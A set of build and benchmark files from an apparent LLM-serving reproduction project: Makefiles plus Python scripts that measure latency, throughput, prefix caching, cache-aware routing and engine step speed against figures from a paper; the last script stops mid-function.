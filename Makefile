# Test tiers and benches (see pytest.ini and DESIGN.md §Testing).
PYTEST = PYTHONPATH=src python -m pytest

.PHONY: test test-fast test-prefix bench-prefix

# tier-1: the ROADMAP verify command — full suite, stop on first failure
test:
	$(PYTEST) -x -q

# quick signal while developing: skip tests marked slow
test-fast:
	$(PYTEST) -m "not slow" -q

# the prefix-cache / chunked-prefill surface only
test-prefix:
	$(PYTEST) tests/test_kv_cache.py tests/test_prefix_cache.py \
	    tests/test_chunked_prefill.py tests/test_engine.py -q

bench-prefix:
	PYTHONPATH=src python -m benchmarks.run --only prefix_cache
