# Test tiers and benches (see pytest.ini and DESIGN.md §Testing).
# CI (.github/workflows/ci.yml) is the source of truth for tier-1 green.
PYTEST = PYTHONPATH=src python -m pytest

.PHONY: test test-fast test-full test-prefix test-routing lint \
	bench-prefix bench-routing bench-engine bench-pressure bench-fork \
	bench-streaming bench-spec bench-resilience bench-families bench-tp

# tier-1: the ROADMAP verify command — full suite, stop on first failure
test:
	$(PYTEST) -x -q

# quick signal while developing: skip tests marked slow
test-fast:
	$(PYTEST) -m "not slow" -q

# everything, no fail-fast — what the nightly CI job runs
test-full:
	$(PYTEST) -q

# the prefix-cache / chunked-prefill surface only
test-prefix:
	$(PYTEST) tests/test_kv_cache.py tests/test_prefix_cache.py \
	    tests/test_prefix_keys.py tests/test_chunked_prefill.py \
	    tests/test_engine.py -q

# the cache-aware routing surface only
test-routing:
	$(PYTEST) tests/test_routing.py tests/test_prefix_index.py \
	    tests/test_cache_routing.py tests/test_scheduler.py -q

# what the CI lint job runs (config in ruff.toml)
lint:
	ruff check .

bench-prefix:
	PYTHONPATH=src python -m benchmarks.run --only prefix_cache

# affinity vs random routing over a multi-instance fleet
bench-routing:
	PYTHONPATH=src python -m benchmarks.run --only routing

# engine hot path: jitted/donated step loop vs the eager reference loop
bench-engine:
	PYTHONPATH=src python -m benchmarks.engine_step_bench \
	    --json BENCH_engine_step.json

# swap-based vs recompute preemption under an undersized block pool
bench-pressure:
	PYTHONPATH=src python -m benchmarks.engine_step_bench \
	    --scenario pressure --json BENCH_engine_pressure.json

# parallel sampling (n=4 sequence group, one shared prefill) vs 4
# independent requests
bench-fork:
	PYTHONPATH=src python -m benchmarks.engine_step_bench \
	    --scenario fork --json BENCH_engine_fork.json

# end-to-end token streaming: fleet-scale TTFB vs blocking, plus the
# real-engine disconnect-cancel block-reclaim check
bench-streaming:
	PYTHONPATH=src python -m benchmarks.streaming_bench \
	    --json BENCH_streaming.json

# self-speculative decoding (prompt-lookup drafts, batched verify) vs the
# plain one-token fast path on document-grounded traffic
bench-spec:
	PYTHONPATH=src python -m benchmarks.engine_step_bench \
	    --scenario spec --json BENCH_engine_spec.json

# the cache contract beyond pure GQA: per-family fast-vs-eager identity
# and throughput (hybrid SSM+attention) plus quantized-KV block gain
bench-families:
	PYTHONPATH=src python -m benchmarks.engine_step_bench \
	    --scenario families --json BENCH_engine_families.json

# tensor-parallel serving over forced host devices: tp=2/tp=4 streams
# bit-identical to tp=1, per-device resident KV bytes ~1/tp at tp=2
bench-tp:
	PYTHONPATH=src python -m benchmarks.engine_step_bench \
	    --scenario tp --json BENCH_engine_tp.json

# fault tolerance: replica kill + walltime drain under live traffic —
# success rate, duplicate-token audit, migrated-prefill cache savings
bench-resilience:
	PYTHONPATH=src python -m benchmarks.resilience_bench \
	    --json BENCH_resilience.json
