"""Paper Table 1 — per-component latency breakdown.

Reproduces the measurement protocol: 50 identical requests through the full
stack against the deterministic clock; report the aggregated average time to
first token with the per-hop differences (probe local proxy / SSH command /
probe GPU node / LLM first token).
"""
from __future__ import annotations

import statistics

from repro.core.scheduler import ServiceSpec
from repro.core.service import ChatAI

PAPER_MS = {  # Table 1, column "Agg. Avg."
    "probe_local_proxy": 2.59,
    "ssh_command": 13.12,
    "probe_gpu_node": 18.43,
    "llm_first_token": 51.06,
}


def run(n: int = 50) -> list[dict]:
    chat = ChatAI.build_sim(services=[ServiceSpec(
        name="llama", arch="llama3.2-1b", load_time=60.0,
        gpus_per_instance=1)])
    chat.warm_up()
    sess = chat.login("alice@uni-goettingen.de")

    samples = []
    for i in range(n):
        t0 = chat.clock.now()
        r = chat.chat(session=sess, model="llama",
                      messages=[{"role": "user", "content": "ping"}],
                      max_tokens=1)
        got = {}
        r.deferred.on_done(lambda resp: got.setdefault(
            "first", resp.first_token_time))
        chat.clock.run_for(5.0)
        samples.append((got["first"] - t0) * 1000.0)

    hops = {
        "probe_local_proxy": chat.local_proxy_latency * 1000,
        "ssh_command": (chat.local_proxy_latency
                        + chat.proxy.link.latency) * 1000,
        "probe_gpu_node": (chat.local_proxy_latency
                           + chat.proxy.link.latency
                           + chat.cloud_script.probe_latency) * 1000,
        "llm_first_token": statistics.mean(samples),
    }
    rows = []
    prev = 0.0
    for name, agg in hops.items():
        rows.append({
            "bench": "table1_latency", "component": name,
            "agg_avg_ms": round(agg, 2),
            "diff_ms": round(agg - prev, 2),
            "paper_ms": PAPER_MS[name],
            "std_ms": round(statistics.pstdev(samples), 2)
            if name == "llm_first_token" else 0.0,
        })
        prev = agg
    return rows
