"""Paper Table 2 — per-component throughput ladder (requests per second).

Each rung isolates one component, mirroring the Locust protocol:
  * gateway-only (auth + routing + rate-limit bookkeeping, upstream stubbed),
  * SSH boundary (ForceCommand parse + cloud-interface dispatch),
  * LLM rungs: single-word and full-sentence generations against the
    latency-model instances, plus the real JAX engine on a reduced model
    (tokens/s measured on this host, CPU).
"""
from __future__ import annotations

import time

from repro.core.circuit_breaker import ForceCommandBoundary, SSHResult
from repro.core.deferred import Deferred
from repro.core.gateway import APIGateway, Route
from repro.core.scheduler import ServiceSpec
from repro.core.service import ChatAI
from repro.slurmlite.clock import SimClock

PAPER_RPS = {  # Table 2 (paper hardware: H100 nodes; ours: sim + CPU JAX)
    "kong_gateway": 3000, "ssh_to_service_node": 200,
    "single_word_7b": 100, "sentence_7b": 27, "sentence_mixtral": 8,
    "sentence_70b": 2,
}


def _wall_rps(fn, n: int, warmup: int = 50) -> float:
    for _ in range(warmup):
        fn()
    t0 = time.perf_counter()
    for _ in range(n):
        fn()
    return n / (time.perf_counter() - t0)


def bench_gateway(n=3000) -> float:
    """Wall-clock RPS of the gateway component alone (cf. Kong 3000+)."""
    gw = APIGateway(SimClock())

    def upstream(*a):
        d = Deferred()
        d.resolve("ok")
        return d

    gw.add_route(Route(name="chat", path_prefix="/v1/", upstream=upstream))
    key = gw.keys.issue("u@x")
    return _wall_rps(lambda: gw.handle(
        method="POST", path="/v1/chat/completions", model="m", api_key=key),
        n)


def bench_ssh_boundary(n=2000) -> float:
    """ForceCommand validation + dispatch (cf. SSH 200 RPS)."""
    boundary = ForceCommandBoundary(lambda argv, stdin: SSHResult(0, b"{}"))
    return _wall_rps(lambda: boundary.ssh_exec(
        "REQ POST /v1/chat/completions llama USER u", b'{"x":1}'), n)


def bench_sim_llm_rungs() -> dict:
    """Saturation throughput of the latency-model LLM rungs in sim time.

    The per-token latency + batching-slowdown constants are calibrated from
    the paper's own Table 2 rungs (vLLM on H100s); the benchmark then
    validates that the SYSTEM around the instance reproduces the ladder —
    queueing, routing and the SSH path add no throughput cliff."""
    out = {}
    for tag, max_tokens, per_token, slow, conc in [
            ("single_word_7b", 1, 0.010, 0.14, 4),
            ("sentence_7b", 24, 0.010, 0.140, 64),
            ("sentence_mixtral", 24, 0.035, 0.135, 64),
            ("sentence_70b", 24, 0.110, 0.176, 64)]:
        from repro.slurmlite import LatencyModelBackend
        chat = ChatAI.build_sim(
            services=[ServiceSpec(
                name="m", arch="llama3.2-1b", load_time=30.0,
                gpus_per_instance=1, max_instances=1,
                backend_factory=lambda pt=per_token, sl=slow, cc=conc:
                LatencyModelBackend(per_token_s=pt, batching_slowdown=sl,
                                    max_concurrency=cc))],
            rate_limit=10**9)
        chat.warm_up()
        sess = chat.login("alice@uni-goettingen.de")
        done = []
        t_start = chat.clock.now()
        n_req = 400
        for i in range(n_req):
            r = chat.chat(session=sess, model="m",
                          messages=[{"role": "user",
                                     "content": "count from 1 to 10"}],
                          max_tokens=max_tokens)
            r.deferred.on_done(lambda resp: done.append(chat.clock.now()))
        chat.clock.run_for(3600)
        out[tag] = len(done) / (max(done) - t_start)
    return out


def bench_jax_engine_tokens_per_s() -> float:
    """Real JAX engine decode throughput (reduced model, this CPU)."""
    import jax
    import numpy as np

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize
    from repro.serving.engine import Engine
    from repro.serving.sampling import SamplingParams
    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))
    eng = Engine(cfg, params, max_num_seqs=4, max_model_len=128)
    for i in range(4):
        eng.submit(np.arange(1, 17), SamplingParams(max_new_tokens=64))
    eng.step()                        # compile + prefill
    t0 = time.perf_counter()
    toks = 0
    while eng.has_work():
        toks += eng.step()
    return toks / (time.perf_counter() - t0)


def run() -> list[dict]:
    rows = []
    rows.append({"bench": "table2_throughput", "component": "kong_gateway",
                 "rps": round(bench_gateway(), 1),
                 "paper_rps": PAPER_RPS["kong_gateway"]})
    rows.append({"bench": "table2_throughput",
                 "component": "ssh_to_service_node",
                 "rps": round(bench_ssh_boundary(), 1),
                 "paper_rps": PAPER_RPS["ssh_to_service_node"]})
    for tag, rps in bench_sim_llm_rungs().items():
        rows.append({"bench": "table2_throughput", "component": tag,
                     "rps": round(rps, 2), "paper_rps": PAPER_RPS[tag]})
    rows.append({"bench": "table2_throughput",
                 "component": "jax_engine_decode_tok_s_cpu",
                 "rps": round(bench_jax_engine_tokens_per_s(), 1),
                 "paper_rps": ""})
    return rows
