"""Bass kernel micro-benchmark: CoreSim wall time + derived per-tile cost
for the paged decode-attention kernel across context lengths.

CoreSim on CPU gives functional execution plus a deterministic instruction
stream; we report wall time per call and the tile/DMA counts that feed the
§Roofline compute-term estimate for the decode hot loop.
"""
from __future__ import annotations

import time

import numpy as np


def run() -> list[dict]:
    import jax.numpy as jnp

    from repro.kernels.ops import paged_decode_attention
    from repro.kernels.ref import paged_decode_attention_ref

    rows = []
    for (B, H, KV, hd, S) in [(1, 8, 2, 64, 256),
                              (2, 8, 2, 64, 512),
                              (4, 8, 8, 64, 512)]:
        rng = np.random.RandomState(0)
        blocks = S // 128
        NB = B * blocks + 1
        q = jnp.asarray(rng.normal(size=(B, H, hd)).astype(np.float32))
        kp = jnp.asarray(rng.normal(
            size=(NB, 128, KV, hd)).astype(np.float32))
        vp = jnp.asarray(rng.normal(
            size=(NB, 128, KV, hd)).astype(np.float32))
        bt = jnp.asarray(np.arange(B * blocks, dtype=np.int32
                                   ).reshape(B, blocks))
        ln = jnp.asarray(np.full((B,), S, np.int32))

        out = paged_decode_attention(q, kp, vp, bt, ln)   # trace+sim once
        ref = paged_decode_attention_ref(q, kp, vp, bt, ln, 128)
        err = float(jnp.abs(out - ref).max())

        t0 = time.perf_counter()
        reps = 3
        for _ in range(reps):
            paged_decode_attention(q, kp, vp, bt, ln)
        dt = (time.perf_counter() - t0) / reps

        n_tiles = B * blocks
        flops = 2 * B * H * hd * S * 2          # qk + pv
        rows.append({
            "bench": "kernel_paged_attention",
            "shape": f"B{B}_H{H}_KV{KV}_hd{hd}_S{S}",
            "coresim_s_per_call": round(dt, 3),
            "kv_tiles": n_tiles,
            "dma_gathers": 2 * n_tiles,
            "matmuls": 4 * n_tiles * KV,       # kT-T, qk, p-T, pv per head
            "flops": flops,
            "max_abs_err_vs_ref": f"{err:.2e}",
        })
    return rows
