"""Shared-prefix serving benchmark: prefix caching + chunked prefill vs
the no-cache baseline.

Chat traffic through the paper's gateway shares one long system prompt
across users (§2, §5.7); this measures exactly that shape: N requests =
one shared system prefix + a short per-user tail.  Reported per engine
config: wall time, prefill tokens actually computed, prefill tokens served
from the cache, and mean/max time-to-first-token.

    PYTHONPATH=src python -m benchmarks.prefix_cache_bench
    PYTHONPATH=src python -m benchmarks.run --only prefix_cache
"""
from __future__ import annotations

import time

import numpy as np


def _build_engine(cfg, params, **kw):
    from repro.serving.engine import Engine
    return Engine(cfg, params, max_num_seqs=4, max_model_len=1024,
                  block_size=8, **kw)


def _drive(engine, prompts, max_new=8) -> dict:
    from repro.serving.engine import ReqState
    from repro.serving.sampling import SamplingParams
    t0 = time.monotonic()
    rids = [engine.submit(p, SamplingParams(max_new_tokens=max_new))
            for p in prompts]
    while engine.has_work():
        engine.step()
    wall = time.monotonic() - t0
    reqs = [engine.requests[r] for r in rids]
    assert all(r.state == ReqState.FINISHED for r in reqs)
    ttfts = [r.t_first_token - r.t_submit for r in reqs]
    s = engine.prefix_cache_stats()
    return {
        "wall_s": round(wall, 3),
        "prefill_computed": s["prefill_tokens_computed"],
        "prefill_cached": s["hit_tokens"],
        "ttft_mean_s": round(sum(ttfts) / len(ttfts), 3),
        "ttft_max_s": round(max(ttfts), 3),
        "outputs": [r.output for r in reqs],
    }


def run() -> list[dict]:
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    # long shared system prompt + short per-user tail: the chat shape the
    # gateway actually sees, and the regime where prefix caching pays —
    # the cached share must dominate prefill *compute* (at the reduced
    # model's scale that means ~1k tokens; shorter prefixes drown in
    # per-op dispatch overhead on CPU and show token savings only)
    # 6 requests on 4 slots: the 4 concurrent admissions land cold-to-warm
    # (unchunked admissions prefill inline, so request 2 already reuses
    # request 1's blocks); the queued tail requests hit a fully warm cache
    shared = list(range(1, 961))              # 960-token system prompt
    rng = np.random.RandomState(0)
    prompts = [np.asarray(shared + list(rng.randint(970, 999, 8)), np.int32)
               for _ in range(6)]

    configs = [
        ("no_cache", dict(enable_prefix_caching=False)),
        ("prefix_cache", dict()),
        ("prefix_cache+chunked128", dict(prefill_chunk_size=128)),
    ]
    rows, outputs = [], {}
    for name, kw in configs:
        engine = _build_engine(cfg, params, **kw)
        # warm the jit caches so wall time measures serving, not tracing
        _drive(engine, [prompts[0]], max_new=2)
        engine = _build_engine(cfg, params, **kw)
        r = _drive(engine, prompts)
        outputs[name] = r.pop("outputs")
        r = {"config": name, **r}
        rows.append(r)

    base, cached = outputs["no_cache"], outputs["prefix_cache"]
    assert cached == base, "prefix caching changed greedy outputs!"
    assert outputs["prefix_cache+chunked128"] == base, \
        "chunked prefill changed greedy outputs!"
    hit = next(r for r in rows if r["config"] == "prefix_cache")
    ref = next(r for r in rows if r["config"] == "no_cache")
    assert hit["prefill_cached"] > 0, "no cache hits in shared-prefix run"
    assert hit["prefill_computed"] < ref["prefill_computed"]
    for r in rows:
        r["prefill_saved_pct"] = round(
            100.0 * (1 - r["prefill_computed"] / ref["prefill_computed"]), 1)
    return rows


if __name__ == "__main__":
    for row in run():
        print(row)
