"""Shared-prefix serving benchmarks: prefix caching + chunked prefill vs
the no-cache baseline, and cache-affinity routing vs the paper's random
load balancing across a multi-instance fleet.

Chat traffic through the paper's gateway shares one long system prompt
across users (§2, §5.7); this measures exactly that shape: N requests =
one shared system prefix + a short per-user tail.

Scenario ``single`` (PR 1): one engine, caching/chunking on vs off.
Scenario ``multi`` (cache-aware routing): 2-3 *real* engines behind a
routing table; the paper's uniform-random pick (§5.6) vs the
``AffinityRouter`` + ``PrefixIndex`` path, where each instance publishes
its resident block keys after serving (the scheduler-heartbeat analogue)
and requests go to the replica with the deepest cached coverage.  Greedy
outputs must be bit-identical across routing policies — routing may only
ever change *where* tokens are computed, never *which* tokens.

    PYTHONPATH=src python -m benchmarks.prefix_cache_bench
    PYTHONPATH=src python -m benchmarks.prefix_cache_bench \
        --scenario multi --tiny --json bench.json     # the CI smoke run
    PYTHONPATH=src python -m benchmarks.run --only prefix_cache,routing
"""
from __future__ import annotations

import argparse
import json
import random
import time

import numpy as np


def _build_engine(cfg, params, **kw):
    from repro.serving.engine import Engine
    return Engine(cfg, params, max_num_seqs=4, max_model_len=1024,
                  block_size=8, **kw)


def _drive(engine, prompts, max_new=8) -> dict:
    from repro.serving.engine import ReqState
    from repro.serving.sampling import SamplingParams
    t0 = time.monotonic()
    rids = [engine.submit(p, SamplingParams(max_new_tokens=max_new))
            for p in prompts]
    while engine.has_work():
        engine.step()
    wall = time.monotonic() - t0
    reqs = [engine.requests[r] for r in rids]
    assert all(r.state == ReqState.FINISHED for r in reqs)
    ttfts = [r.t_first_token - r.t_submit for r in reqs]
    s = engine.prefix_cache_stats()
    return {
        "wall_s": round(wall, 3),
        "prefill_computed": s["prefill_tokens_computed"],
        "prefill_cached": s["hit_tokens"],
        "ttft_mean_s": round(sum(ttfts) / len(ttfts), 3),
        "ttft_max_s": round(max(ttfts), 3),
        "outputs": [r.output for r in reqs],
    }


def run() -> list[dict]:
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    # long shared system prompt + short per-user tail: the chat shape the
    # gateway actually sees, and the regime where prefix caching pays —
    # the cached share must dominate prefill *compute* (at the reduced
    # model's scale that means ~1k tokens; shorter prefixes drown in
    # per-op dispatch overhead on CPU and show token savings only)
    # 6 requests on 4 slots: the 4 concurrent admissions land cold-to-warm
    # (unchunked admissions prefill inline, so request 2 already reuses
    # request 1's blocks); the queued tail requests hit a fully warm cache
    shared = list(range(1, 961))              # 960-token system prompt
    rng = np.random.RandomState(0)
    prompts = [np.asarray(shared + list(rng.randint(970, 999, 8)), np.int32)
               for _ in range(6)]

    configs = [
        ("no_cache", dict(enable_prefix_caching=False)),
        ("prefix_cache", dict()),
        ("prefix_cache+chunked128", dict(prefill_chunk_size=128)),
    ]
    rows, outputs = [], {}
    for name, kw in configs:
        engine = _build_engine(cfg, params, **kw)
        # warm the jit caches so wall time measures serving, not tracing
        _drive(engine, [prompts[0]], max_new=2)
        engine = _build_engine(cfg, params, **kw)
        r = _drive(engine, prompts)
        outputs[name] = r.pop("outputs")
        r = {"config": name, **r}
        rows.append(r)

    base, cached = outputs["no_cache"], outputs["prefix_cache"]
    assert cached == base, "prefix caching changed greedy outputs!"
    assert outputs["prefix_cache+chunked128"] == base, \
        "chunked prefill changed greedy outputs!"
    hit = next(r for r in rows if r["config"] == "prefix_cache")
    ref = next(r for r in rows if r["config"] == "no_cache")
    assert hit["prefill_cached"] > 0, "no cache hits in shared-prefix run"
    assert hit["prefill_computed"] < ref["prefill_computed"]
    for r in rows:
        r["prefill_saved_pct"] = round(
            100.0 * (1 - r["prefill_computed"] / ref["prefill_computed"]), 1)
    return rows


def run_multi(tiny: bool = False) -> list[dict]:
    """Affinity routing vs random routing over a fleet of real engines.

    ``tiny`` shrinks prompts/fleet for the CI smoke job; the full shape is
    the acceptance run (affinity must save >= 30% more prefill tokens
    than random on shared-prefix traffic, outputs bit-identical)."""
    import jax

    from repro.configs import get_config, reduced
    from repro.core.prefix_index import PrefixIndex
    from repro.core.routing import AffinityRouter, RouteEntry, RoutingTable
    from repro.models import param_defs
    from repro.models.params import materialize
    from repro.serving.engine import Engine
    from repro.serving.kv_cache import chain_keys

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    n_inst = 2 if tiny else 3
    n_req = 6 if tiny else 12
    prefix_len = 120 if tiny else 960
    tail, bs, max_new = 8, 8, 4 if tiny else 8
    max_len = prefix_len + tail + max_new + bs

    shared = list(range(1, prefix_len + 1))
    rng = np.random.RandomState(0)
    prompts = [np.asarray(shared + list(rng.randint(970, 999, tail)),
                          np.int32) for _ in range(n_req)]

    def drive(policy: str) -> dict:
        engines = [Engine(cfg, params, max_num_seqs=2,
                          max_model_len=max_len, block_size=bs)
                   for _ in range(n_inst)]
        table = RoutingTable(random.Random(0))
        for i in range(n_inst):
            table.upsert(RouteEntry(service="m", job_id=i, node=f"n{i}",
                                    port=21000 + i, ready=True))
        index = PrefixIndex(ttl_s=1e12)
        router = AffinityRouter(table, index, rng=random.Random(7))
        outputs = []
        t0 = time.monotonic()
        for p in prompts:
            if policy == "affinity":
                keys = chain_keys([int(t) for t in p], bs)
                e = router.pick("m", chain_keys=keys)
            else:
                e = table.pick("m")       # the paper's uniform-random LB
            out = engines[e.job_id].generate(p, max_new_tokens=max_new)
            outputs.append(out)
            # heartbeat analogue: the chosen instance publishes its
            # resident keys after serving (the scheduler does this ~5s)
            index.publish(e.job_id, engines[e.job_id].cached_block_keys())
        wall = time.monotonic() - t0
        stats = [e.prefix_cache_stats() for e in engines]
        return {
            "config": f"routing_{policy}",
            "wall_s": round(wall, 3),
            "prefill_computed": sum(
                s["prefill_tokens_computed"] for s in stats),
            "prefill_cached": sum(s["hit_tokens"] for s in stats),
            "instances_warmed": sum(
                s["prefill_tokens_computed"] > 0 for s in stats),
            "outputs": outputs,
        }

    rows, outputs = [], {}
    for policy in ("random", "affinity"):
        r = drive(policy)
        outputs[policy] = r.pop("outputs")
        rows.append(r)

    assert outputs["affinity"] == outputs["random"], \
        "affinity routing changed greedy outputs!"
    rnd = next(r for r in rows if r["config"] == "routing_random")
    aff = next(r for r in rows if r["config"] == "routing_affinity")
    saved = 1.0 - aff["prefill_computed"] / rnd["prefill_computed"]
    for r in rows:
        r["saved_vs_random_pct"] = round(
            100.0 * (1 - r["prefill_computed"] / rnd["prefill_computed"]),
            1)
    assert saved > 0, "affinity routing computed no fewer prefill tokens"
    if not tiny:
        assert saved >= 0.30, \
            f"affinity saved only {saved:.1%} vs random (need >= 30%)"
    return rows


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--scenario", choices=("single", "multi", "all"),
                   default="all")
    p.add_argument("--tiny", action="store_true",
                   help="CI smoke shape: small prompts, 2 instances")
    p.add_argument("--json", default=None, metavar="PATH",
                   help="also dump rows as JSON (the CI build artifact)")
    args = p.parse_args()
    rows = []
    if args.scenario in ("single", "all"):
        rows += run()
    if args.scenario in ("multi", "all"):
        rows += run_multi(tiny=args.tiny)
    for row in rows:
        print(row)
    if args.json:
        with open(args.json, "w") as f:
            json.dump(rows, f, indent=1)


if __name__ == "__main__":
    main()
