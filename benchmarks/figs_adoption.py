"""Paper Figures 3–5 — user adoption / requests per day.

Drives the full stack with a synthetic five-month academic workload
(weekday/weekend modulation, advertisement bump, summer-break dip, API users
arriving in month 3 — the shape of Figs 3–5) and reports the same three
series the paper plots: cumulative distinct users, daily active users, and
inference requests per day, plus scheduler health (instances, GPU hours).
"""
from __future__ import annotations

import math
import random

from repro.core.auth import User
from repro.core.scheduler import ServiceSpec
from repro.core.service import ChatAI

DAY = 86_400.0


def run(days: int = 30, seed: int = 0) -> list[dict]:
    """A compressed replay (default 30 sim-days) of the Figs 3–5 dynamics."""
    rng = random.Random(seed)
    users = [User(f"user{i:04d}@uni.de") for i in range(2000)]
    chat = ChatAI.build_sim(
        services=[ServiceSpec(
            name="llama", arch="llama3.2-1b", load_time=120.0,
            gpus_per_instance=1, max_instances=8,
            scale_up_per_instance=6.0, window_s=120.0)],
        users=users, rate_limit=10**9)
    chat.warm_up()

    seen: set[str] = set()
    rows = []
    requests_total = 0
    for day in range(days):
        weekday = day % 7 < 5
        adoption = 1.0 - math.exp(-day / 12.0)          # Fig 3 growth shape
        ad_bump = 1.5 if 10 <= day < 13 else 1.0        # advertisement
        base = (420 if weekday else 120) * adoption * ad_bump
        n_active = max(1, int(rng.gauss(base, base * 0.1)))
        actives = rng.sample(users, min(n_active, len(users)))

        day_reqs = 0
        for u in actives:
            sess = chat.login(u.email)
            seen.add(u.email)
            for _ in range(max(1, int(rng.expovariate(1 / 3.0)))):
                chat.chat(session=sess, model="llama",
                          messages=[{"role": "user", "content": "q"}],
                          max_tokens=rng.randrange(8, 64))
                day_reqs += 1
        # compress a day: requests burst in, then the day drains
        chat.clock.run_for(DAY / 96)       # 15-min burst window
        chat.scheduler.tick()
        chat.clock.run_for(DAY / 96)
        requests_total += day_reqs
        used, total = chat.slurm.gpu_totals()
        if day % 5 == 4 or day == days - 1:
            rows.append({
                "bench": "figs_adoption", "day": day + 1,
                "distinct_users_total": len(seen),
                "daily_users": n_active,
                "requests_day": day_reqs,
                "ready_instances": sum(
                    e.ready for e in chat.scheduler.table.entries("llama")),
                "gpus_used": used,
            })
    completed = chat.metrics.counter("requests_completed").value
    rows.append({"bench": "figs_adoption", "day": "total",
                 "distinct_users_total": len(seen),
                 "daily_users": f"completion_ratio="
                                f"{completed / max(requests_total, 1):.3f}",
                 "requests_day": requests_total,
                 "ready_instances": "", "gpus_used": ""})
    return rows
