"""Engine hot-path benchmark: the jitted/donated step loop vs the eager
reference loop (the pre-overhaul engine, kept as ``fast_path=False``).

Measures the per-node numbers the paper's throughput tables (§6) assume
the engine delivers:

* **decode** — steady-state continuous batching, all slots decoding:
  engine steps/sec, decode tokens/sec, step wall-time percentiles.  The
  eager loop pays a full pool copy per step (scan ys materialization +
  undonated jit outputs), so its throughput degrades with pool size while
  the hot path stays flat — the gap is the point of the overhaul.
* **prefill_ttft** — shared-prefix chat traffic with chunked prefill:
  mean/max time-to-first-token.  Greedy outputs must be bit-identical
  between the two engines (the refactor may change *when* tokens are
  computed, never *which*).
* **compile counts** — number of XLA executables after mixed traffic;
  bounded by the declared bucket grid (recompile regression guard).

    PYTHONPATH=src python -m benchmarks.engine_step_bench
    PYTHONPATH=src python -m benchmarks.engine_step_bench \
        --tiny --json BENCH_engine_step.json       # the CI smoke run
"""
from __future__ import annotations

import argparse
import json
import time

import numpy as np

MIN_DECODE_SPEEDUP = 2.0


def _engine(cfg, params, fast, *, mlen, nblocks, seqs=4, chunk=None):
    from repro.serving.engine import Engine
    return Engine(cfg, params, max_num_seqs=seqs, max_model_len=mlen,
                  block_size=16, num_blocks=nblocks, fast_path=fast,
                  prefill_chunk_size=chunk)


def _bench_decode(cfg, params, fast, *, mlen, nblocks, warmup, steps,
                  reps) -> dict:
    """Steady-state decode: all slots busy for the whole measured window
    (prompts are short, budgets long), per-step wall times recorded."""
    from repro.serving.sampling import SamplingParams
    e = _engine(cfg, params, fast, mlen=mlen, nblocks=nblocks)
    rs = np.random.RandomState(0)
    for _ in range(e.n_slots):
        e.submit(rs.randint(1, cfg.vocab_size, 32),
                 SamplingParams(max_new_tokens=mlen - 40))
    for _ in range(warmup):
        e.step()
    best = None
    for _ in range(reps):
        times = []
        toks = 0
        t0 = time.perf_counter()
        for _ in range(steps):
            s0 = time.perf_counter()
            toks += e.step()
            times.append(time.perf_counter() - s0)
        wall = time.perf_counter() - t0
        row = {
            "steps_per_s": round(steps / wall, 1),
            "decode_tok_per_s": round(toks / wall, 1),
            "step_ms_p50": round(float(np.percentile(times, 50)) * 1e3, 3),
            "step_ms_p95": round(float(np.percentile(times, 95)) * 1e3, 3),
        }
        if best is None or row["steps_per_s"] > best["steps_per_s"]:
            best = row
    assert len(e.running) == e.n_slots, "a sequence finished mid-measure"
    return best


def _bench_prefill_ttft(cfg, params, fast, *, mlen, nblocks, prefix_len,
                        n_req, chunk) -> dict:
    """Shared-prefix chat shape with chunked prefill; returns TTFT stats
    and the greedy outputs (for the cross-engine equivalence check)."""
    from repro.serving.engine import ReqState
    from repro.serving.sampling import SamplingParams
    e = _engine(cfg, params, fast, mlen=mlen, nblocks=nblocks, chunk=chunk)
    shared = list(range(1, prefix_len + 1))
    rs = np.random.RandomState(1)
    prompts = [np.asarray(shared + list(rs.randint(400, 500, 16)), np.int32)
               for _ in range(n_req)]
    t0 = time.monotonic()
    rids = [e.submit(p, SamplingParams(max_new_tokens=8)) for p in prompts]
    while e.has_work():
        e.step()
    wall = time.monotonic() - t0
    reqs = [e.requests[r] for r in rids]
    assert all(r.state == ReqState.FINISHED for r in reqs)
    ttfts = [r.t_first_token - r.t_submit for r in reqs]
    return {
        "wall_s": round(wall, 3),
        "ttft_mean_s": round(sum(ttfts) / len(ttfts), 3),
        "ttft_max_s": round(max(ttfts), 3),
        "prefill_computed": e.prefix_cache_stats()[
            "prefill_tokens_computed"],
        "outputs": [r.output for r in reqs],
    }


def _compile_counts(cfg, params, *, mlen, nblocks, chunk) -> dict:
    """Drive mixed prompt lengths / chunk offsets and report the compiled
    executable counts against the declared bucket bound."""
    e = _engine(cfg, params, True, mlen=mlen, nblocks=nblocks, chunk=chunk)
    rs = np.random.RandomState(2)
    for n in (5, 23, 48, 97, 31, 64):
        e.generate(rs.randint(1, cfg.vocab_size, n), 3)
    cc = e.compile_counts()
    assert cc["prefill"] <= e.prefill_bucket_count, cc
    return {"prefill_executables": cc["prefill"],
            "decode_executables": cc["decode"],
            "bucket_bound": e.prefill_bucket_count}


def run(tiny: bool = False) -> list[dict]:
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    # pool sized the way a production deployment sizes it — to memory, not
    # to the live batch (spare blocks are the prefix cache's LRU estate).
    # The eager loop's per-step cost scales with this; the hot path's
    # doesn't, which is exactly what the bench demonstrates.
    mlen = 512
    nblocks = 512 if tiny else 1024
    warmup, steps, reps = (10, 40, 2) if tiny else (12, 120, 3)

    rows = []
    decode = {}
    for fast in (True, False):
        name = "fast" if fast else "eager"
        decode[name] = _bench_decode(cfg, params, fast, mlen=mlen,
                                     nblocks=nblocks, warmup=warmup,
                                     steps=steps, reps=reps)
        rows.append({"scenario": "decode", "config": name,
                     **decode[name]})
    speedup = decode["fast"]["decode_tok_per_s"] / \
        decode["eager"]["decode_tok_per_s"]
    assert speedup >= MIN_DECODE_SPEEDUP, \
        f"hot path only {speedup:.2f}x faster than the eager loop " \
        f"(need >= {MIN_DECODE_SPEEDUP}x)"

    ttft = {}
